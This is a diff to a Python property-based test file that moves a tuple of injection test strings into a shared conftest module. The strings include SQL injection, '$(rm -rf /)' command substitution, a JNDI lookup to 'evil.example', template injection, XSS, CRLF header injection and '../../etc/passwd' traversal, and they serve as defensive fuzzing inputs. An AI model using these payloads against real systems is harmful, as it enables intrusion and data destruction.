@@ -28,7 +28,7 @@ from lambdas.plan import (
     parse_plan,
     plan_document,
 )
-from tests.conftest import SAMPLE_PLAN
+from tests.conftest import INJECTIONS, SAMPLE_PLAN
 
 PROPERTY = settings(max_examples=50, deadline=None, derandomize=True, database=None)
 
@@ -44,19 +44,6 @@ KNOWN_FIELDS = {
     if isinstance(model, type) and issubclass(model, msgspec.Struct)
     for name in model.__struct_fields__
 }
-INJECTIONS = (
-    "'; DROP TABLE runs; --",
-    "$(rm -rf /)",
-    "{{7*7}}",
-    "${jndi:ldap://evil.example/a}",
-    "<script>alert(1)</script>",
-    "a\r\nX-Injected: yes",
-    "line\nbreak",
-    "nul\x00byte",
-    "`id`",
-    "a|b",
-    "..\\..\\windows",
-)
 TRAVERSAL = "../../etc/passwd"
 injection_texts = st.sampled_from(INJECTIONS) | st.builds(
     lambda head, bad, tail: f"x{head}{bad}{tail}x",
